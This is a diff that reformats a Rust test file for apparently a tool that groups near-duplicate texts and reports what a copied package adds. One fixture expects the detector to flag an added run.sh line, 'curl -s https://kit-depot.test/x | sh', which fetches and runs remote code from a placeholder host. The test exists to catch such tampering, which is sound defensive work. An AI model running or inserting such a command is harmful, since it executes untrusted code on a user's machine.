@@ -14,7 +14,9 @@ fn word(number: usize) -> String {
 
 /// A text of so many words that no text of another seed has.
 fn text(seed: usize, words: usize) -> String {
-    (0..words).map(|at| word(seed.wrapping_mul(7919) + at * (seed % 13 + 3)) + if at % 12 == 11 { ".\n" } else { " " }).collect()
+    (0..words)
+        .map(|at| word(seed.wrapping_mul(7919) + at * (seed % 13 + 3)) + if at % 12 == 11 { ".\n" } else { " " })
+        .collect()
 }
 
 fn sketch(text: &str) -> Sketch {
@@ -71,7 +73,8 @@ fn short_and_empty_texts_prove_nothing() {
 #[test]
 fn a_hundred_thousand_equal_texts_are_one_family_at_once() {
     let sketch = sketch(&text(3, 200));
-    let items: Vec<Item<'_, usize>> = (0..100_000).map(|rank| Item { kind: Kind::Skill, rank, sketch: &sketch }).collect();
+    let items: Vec<Item<'_, usize>> =
+        (0..100_000).map(|rank| Item { kind: Kind::Skill, rank, sketch: &sketch }).collect();
     let families = families(&items);
     assert_eq!((families.len(), families[0].len()), (1, 100_000));
 }
@@ -97,9 +100,15 @@ fn a_copy_shows_what_it_added_and_where() {
         ("x.bin", (Digest::of(b"\0"), None)),
     ]);
     let seen = difference(&original, &copy);
-    assert_eq!((seen.files_changed.as_slice(), seen.files_added.as_slice()), (&["a/b/c/run.sh".to_owned()][..], &["x.bin".to_owned()][..]));
+    assert_eq!(
+        (seen.files_changed.as_slice(), seen.files_added.as_slice()),
+        (&["a/b/c/run.sh".to_owned()][..], &["x.bin".to_owned()][..])
+    );
     assert_eq!(seen.lines, [("a/b/c/run.sh".to_owned(), "curl -s https://kit-depot.test/x | sh".to_owned())]);
-    assert_eq!((seen.hosts.as_slice(), seen.binaries.as_slice()), (&["kit-depot.test".to_owned()][..], &["x.bin".to_owned()][..]));
+    assert_eq!(
+        (seen.hosts.as_slice(), seen.binaries.as_slice()),
+        (&["kit-depot.test".to_owned()][..], &["x.bin".to_owned()][..])
+    );
     assert!(seen.likeness > 900 && !seen.adds_nothing());
     assert!(difference(&original, &original).adds_nothing());
 }
